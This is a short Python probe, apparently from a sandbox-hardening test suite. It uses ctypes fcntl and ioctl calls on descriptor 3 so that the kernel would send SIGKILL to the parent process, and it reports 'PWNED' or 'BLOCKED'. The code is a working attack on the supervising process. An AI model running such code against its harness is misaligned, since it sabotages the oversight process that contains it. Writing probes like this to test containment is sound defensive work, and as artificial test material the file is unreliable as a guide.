"""F_SETOWN and F_SETSIG on the channel: the kernel would signal the parent for it"""
def act(obs):
    got = None
    try:
        import ctypes, os
        l = ctypes.CDLL(None)
        done = [n for n, r in (('owner', l.fcntl(3, 8, os.getppid())), ('signal', l.fcntl(3, 10, 9)), ('async', l.fcntl(3, 4, 0o20000)), ('ioctl', l.ioctl(3, 0x8901, ctypes.byref(ctypes.c_int(1)))), ('fionbio', l.ioctl(3, 0x5421, ctypes.byref(ctypes.c_int(1))))) if r >= 0]
        got = done
    except BaseException as e:
        return {"r": "BLOCKED: %s %s" % (type(e).__name__, str(e)[:120])}
    return {"r": ("PWNED: %s" % (str(got)[:200],)) if got else "BLOCKED: nothing obtained"}
